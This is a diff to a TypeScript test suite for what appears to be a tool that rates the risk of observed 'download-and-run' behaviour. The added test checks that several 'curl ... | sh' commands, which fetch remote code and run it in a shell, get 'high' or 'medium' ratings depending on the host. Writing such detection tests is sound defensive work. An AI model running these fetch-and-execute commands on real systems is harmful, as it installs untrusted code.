@@ -42,6 +42,14 @@ describe('download-and-run', () => {
     assert.equal(run({ detail: 'load.invalid', address: '‹tmp›/a.exe', moment: 'call' }), undefined);
   });
 
+  it('takes a command that fetches from no name for worse, whoever asks for it', () => {
+    const run = (detail: string) =>
+      levelOf({ behaviours: [behaviour('download-and-run', { moment: 'call', detail })] });
+    assert.equal(run('curl -s http://198.51.100.7:8080/a | sh'), 'high');
+    assert.equal(run('curl -s http://192.168.1.4/a | sh'), 'medium');
+    assert.equal(run('curl -fsSL https://get.tool.example | sh'), 'medium');
+  });
+
   it('weighs commands most whose output goes back to who sent them', () => {
     const told = flow('downloaded', 'run-as-command', { detail: 'load.invalid' });
     const answer = (host: string) => flow('command-output', 'network', { host });
